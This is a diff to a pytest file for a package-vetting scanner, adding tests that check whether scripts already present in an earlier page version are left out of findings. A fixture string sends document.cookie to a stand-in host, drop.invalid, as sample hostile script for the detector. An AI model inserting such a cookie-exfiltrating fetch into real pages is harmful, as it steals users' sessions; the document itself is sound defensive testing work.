@@ -1,18 +1,22 @@
 """A first look leaves out what a change could not have touched, and nothing that it could have."""
 
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
-from package_lab import wheel
+from package_lab import npm, wheel
 
-from beartrap.vet.behaviour import When
+from beartrap.vet.behaviour import Behaviour, When
 from beartrap.vet.examine import examine
+from beartrap.vet.kinds import Kind
 from beartrap.vet.source.changes import Changes, aligned
 from beartrap.vet.source.touched import Touched
 from beartrap.vet.source.walk import machine_for, parse, walk
 from beartrap.vet.source_files import Alone
+from beartrap.vet.source_texts import CommandFiles
 from beartrap.vet.talk import Order, Outcome
 from vet.binary.binary_lab import java_class
+from vet.source.source_lab import subject
 
 BEFORE = """\
 import os
@@ -145,3 +149,38 @@ def test_what_the_old_version_could_do_is_known_after_a_second_look(tmp_path: Pa
     ]
     found = {one.id for one in examine(Order(bytes(versions[1]), "new", bytes(versions[0]), "old")).found}
     assert "chain.environment-to-network" in found and "binary.gained-powers" not in found
+
+
+PAGE = "<html><script>{}</script>\n<script>{}</script></html>"
+SENDS = "fetch('https://drop.invalid/' + document.cookie);"
+SHOWS = "document.title = 'a title';"
+
+
+@pytest.mark.parametrize(
+    ("before", "after", "seen"),
+    [
+        (PAGE.format(SENDS, SHOWS), PAGE.format(SENDS, SHOWS + SHOWS), False),
+        (PAGE.format(SHOWS, SHOWS), PAGE.format(SENDS, SHOWS), True),
+        (PAGE.format(SENDS, SHOWS), PAGE.format(SENDS + SHOWS, SHOWS), True),
+        (None, PAGE.format(SENDS, SHOWS), True),
+    ],
+    ids=["another-script-changed", "new", "changed", "no-page-before"],
+)
+def test_scripts_that_stood_in_the_page_before_are_left_out(before: str | None, after: str, seen: bool) -> None:
+    earlier = before.encode() if before is not None else None
+    page = replace(subject("a.html", after), kind=Kind.HTML, before=earlier)
+    assert any("drop.invalid" in one.key for one in CommandFiles().look(page) if isinstance(one, Behaviour)) == seen
+
+
+def test_a_script_that_was_added_to_a_page_is_new_and_one_that_moved_is_not(tmp_path: Path) -> None:
+    def told(before: str, after: str) -> set[str]:
+        versions = [
+            npm(tmp_path, "pages", f"1.0.{one}", {"index.html": text, "index.js": "exports.a = 1;\n"})
+            for one, text in enumerate((before, after))
+        ]
+        outcome = examine(Order(*(part for path in reversed(versions) for part in (bytes(path), path.name))))
+        assert isinstance(outcome, Outcome)
+        return {one.id for one in outcome.found if one.id.startswith("chain.")}
+
+    assert told(PAGE.format(SHOWS, SHOWS), PAGE.format(SHOWS, SENDS))
+    assert not told(PAGE.format(SHOWS, SENDS), PAGE.format(SENDS, SHOWS + SHOWS))
